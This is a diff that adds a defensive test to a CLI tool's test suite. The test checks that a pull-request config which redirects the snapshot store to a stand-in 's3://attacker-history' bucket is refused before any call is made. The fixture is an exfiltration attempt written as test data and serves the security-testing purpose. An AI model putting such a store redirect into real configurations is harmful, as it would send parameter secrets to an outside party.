@@ -111,6 +111,21 @@ sources:
     expectNothingLeft(result, before);
   });
 
+  it('a snapshot store of its own, on a pull_request event without --config-ref: refused before any call', async () => {
+    const { dir } = pullRequestRepo(TRUSTED, {
+      'parity.yaml': `${attackerHosts()}  params: { type: ssm, path: "/app/\${env}/", export: "ssm-\${env}.json" }
+store: "s3://attacker-history/${'x'.repeat(4)}"
+`,
+    });
+    const result = await runCli(['diff', 'staging', 'production@latest'], {
+      cwd: dir,
+      env: { ...JOB, GITHUB_EVENT_NAME: 'pull_request', AWS_ENDPOINT_URL: `http://${at()}` },
+    });
+    expect(result.code).toBe(2);
+    expect(result.stderr).toMatch(/\bstore\b.*--config-ref/s);
+    expectNothingLeft(result, before);
+  });
+
   it('the same under pull_request_target', async () => {
     const { dir } = pullRequestRepo(TRUSTED, { 'parity.yaml': probeToAttacker() });
     const result = await runCli(['diff', 'staging', 'production'], {
